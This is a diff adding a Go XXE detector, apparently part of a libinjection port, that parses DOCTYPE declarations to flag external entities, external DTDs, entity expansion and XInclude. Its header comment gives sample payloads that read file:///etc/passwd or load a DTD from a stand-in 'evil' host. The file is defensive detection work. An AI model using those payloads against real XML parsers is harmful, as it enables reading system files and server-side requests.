@@ -0,0 +1,282 @@
+package libinjection
+
+import (
+	"regexp"
+	"strings"
+)
+
+/*
+ * XML external entities: a document whose DOCTYPE makes the parser read
+ * files or URLs, or send them out. The DOCTYPE is read by a tokenizer for
+ * just the prolog and the internal subset, the document itself is only
+ * searched for XInclude.
+ *
+ * The fingerprint is the first construct found:
+ *
+ *	XXE_ENTITY     <!ENTITY x SYSTEM "file:///etc/passwd">
+ *	XXE_PARAMETER  <!ENTITY % x SYSTEM "http://evil/x.dtd"> %x;
+ *	XXE_DTD        <!DOCTYPE x SYSTEM "http://evil/x.dtd">
+ *	XXE_EXPANSION  <!ENTITY b "&a;&a;&a;">, the billion laughs
+ *	XXE_XINCLUDE   <xi:include href="file:///etc/passwd" parse="text"/>
+ */
+
+const (
+	XXE_ENTITY    = "entity"
+	XXE_PARAMETER = "parameter"
+	XXE_DTD       = "dtd"
+	XXE_EXPANSION = "expansion"
+	XXE_XINCLUDE  = "xinclude"
+)
+
+var xxeInclude = regexp.MustCompile(`<([A-Za-z_][\w.-]*:)?include[\s/>]`)
+
+/*
+ * asciiLower lower cases the ASCII letters of s only, so offsets stay
+ * the same.
+ */
+func asciiLower(s string) string {
+	b := []byte(s)
+	for i, c := range b {
+		if c >= 'A' && c <= 'Z' {
+			b[i] = c + 'a' - 'A'
+		}
+	}
+	return string(b)
+}
+
+type xxeState struct {
+	s     string
+	lower string
+	pos   int
+}
+
+func (st *xxeState) skipSpace() {
+	for st.pos < len(st.s) && strings.IndexByte(" \t\r\n", st.s[st.pos]) != -1 {
+		st.pos++
+	}
+}
+
+func (st *xxeState) keyword(word string) bool {
+	if strings.HasPrefix(st.lower[st.pos:], word) {
+		st.pos += len(word)
+		return true
+	}
+	return false
+}
+
+/*
+ * skipTo moves past end, or to the end of the input.
+ */
+func (st *xxeState) skipTo(end string) {
+	if i := strings.Index(st.s[st.pos:], end); i != -1 {
+		st.pos += i + len(end)
+	} else {
+		st.pos = len(st.s)
+	}
+}
+
+/*
+ * name reads a name, of an element, an entity or a notation.
+ */
+func (st *xxeState) name() string {
+	start := st.pos
+	for st.pos < len(st.s) && strings.IndexByte(" \t\r\n>[]\"'%;", st.s[st.pos]) == -1 {
+		st.pos++
+	}
+	return st.s[start:st.pos]
+}
+
+/*
+ * literal reads a quoted literal, without its quotes.
+ */
+func (st *xxeState) literal() (string, bool) {
+	st.skipSpace()
+	if st.pos == len(st.s) || st.s[st.pos] != '"' && st.s[st.pos] != '\'' {
+		return "", false
+	}
+	quote := st.s[st.pos]
+	st.pos++
+	start := st.pos
+	for st.pos < len(st.s) && st.s[st.pos] != quote {
+		st.pos++
+	}
+	value := st.s[start:st.pos]
+	if st.pos < len(st.s) {
+		st.pos++
+	}
+	return value, true
+}
+
+/*
+ * externalID reads SYSTEM "uri" or PUBLIC "id" "uri" and returns the
+ * public id and the uri, or false if there is none.
+ */
+func (st *xxeState) externalID() (string, string, bool) {
+	st.skipSpace()
+	switch {
+	case st.keyword("system"):
+		uri, _ := st.literal()
+		return "", uri, true
+	case st.keyword("public"):
+		id, _ := st.literal()
+		uri, _ := st.literal()
+		return id, uri, true
+	}
+	return "", "", false
+}
+
+/*
+ * skipDecl moves past the '>' of a markup declaration, outside of quotes.
+ */
+func (st *xxeState) skipDecl() {
+	for st.pos < len(st.s) && st.s[st.pos] != '>' {
+		if c := st.s[st.pos]; c == '"' || c == '\'' {
+			st.literal()
+			continue
+		}
+		st.pos++
+	}
+	if st.pos < len(st.s) {
+		st.pos++
+	}
+}
+
+/*
+ * entity reads an entity declaration after "<!ENTITY".
+ */
+func (st *xxeState) entity() string {
+	st.skipSpace()
+	parameter := st.pos < len(st.s) && st.s[st.pos] == '%'
+	if parameter {
+		st.pos++
+		st.skipSpace()
+	}
+	st.name()
+	_, _, external := st.externalID()
+	value := ""
+	if !external {
+		value, _ = st.literal()
+	}
+	st.skipDecl()
+	switch {
+	case parameter:
+		return XXE_PARAMETER
+	case external:
+		return XXE_ENTITY
+	case xxeReferences(value):
+		return XXE_EXPANSION
+	}
+	return ""
+}
+
+/*
+ * xxeReferences tells if an entity value refers to another entity,
+ * character references like &#60; aside.
+ */
+func xxeReferences(value string) bool {
+	for {
+		i := strings.IndexByte(value, '&')
+		if i == -1 {
+			return false
+		}
+		value = value[i+1:]
+		if end := strings.IndexByte(value, ';'); end > 0 && value[0] != '#' && !strings.ContainsAny(value[:end], " \t\r\n&") {
+			return true
+		}
+	}
+}
+
+/*
+ * xxeW3C tells if an external DTD is one of the W3C's, as in the DOCTYPE
+ * of XHTML documents.
+ */
+func xxeW3C(id, uri string) bool {
+	return strings.HasPrefix(id, "-//W3C//") &&
+		(uri == "" || strings.HasPrefix(uri, "http://www.w3.org/") || strings.HasPrefix(uri, "https://www.w3.org/"))
+}
+
+/*
+ * doctype reads a DOCTYPE after "<!DOCTYPE" and its internal subset.
+ */
+func (st *xxeState) doctype() string {
+	st.skipSpace()
+	st.name()
+	external := false
+	if id, uri, ok := st.externalID(); ok && !xxeW3C(id, uri) {
+		external = true
+	}
+	st.skipSpace()
+	if st.pos < len(st.s) && st.s[st.pos] == '[' {
+		st.pos++
+		if found := st.subset(); found != "" {
+			return found
+		}
+	}
+	if external {
+		return XXE_DTD
+	}
+	return ""
+}
+
+/*
+ * subset reads the declarations of an internal subset up to its ']'.
+ */
+func (st *xxeState) subset() string {
+	for {
+		st.skipSpace()
+		if st.pos >= len(st.s) || st.s[st.pos] == ']' {
+			return ""
+		}
+		switch {
+		case st.keyword("<!--"):
+			st.skipTo("-->")
+		case st.keyword("<?"):
+			st.skipTo("?>")
+		case st.keyword("<!entity"):
+			if found := st.entity(); found != "" {
+				return found
+			}
+		case st.keyword("<!"):
+			/* ELEMENT, ATTLIST and NOTATION */
+			st.skipDecl()
+		case st.s[st.pos] == '%':
+			/* a parameter entity reference, %xxe; */
+			st.pos++
+			if st.name() != "" && st.pos < len(st.s) && st.s[st.pos] == ';' {
+				return XXE_PARAMETER
+			}
+		default:
+			st.pos++
+		}
+	}
+}
+
+/*
+ * DetectXXE checks input, an XML document, for external entities, external
+ * DTDs, entity expansion and XInclude.
+ */
+func DetectXXE(input string) Result {
+	st := &xxeState{s: input, lower: asciiLower(input)}
+	for {
+		i := strings.Index(st.lower[st.pos:], "<!doctype")
+		if i == -1 {
+			break
+		}
+		st.pos += i + len("<!doctype")
+		if found := st.doctype(); found != "" {
+			return Result{Injection: true, Fingerprint: found}
+		}
+	}
+	if strings.Contains(st.lower, "http://www.w3.org/2001/xinclude") && xxeInclude.MatchString(input) {
+		return Result{Injection: true, Fingerprint: XXE_XINCLUDE}
+	}
+	return Result{}
+}
+
+/*
+ * IsXXE tells if input is an XXE payload, with what was found.
+ */
+func IsXXE(input string) (bool, string) {
+	result := DetectXXE(input)
+	return result.Injection, result.Fingerprint
+}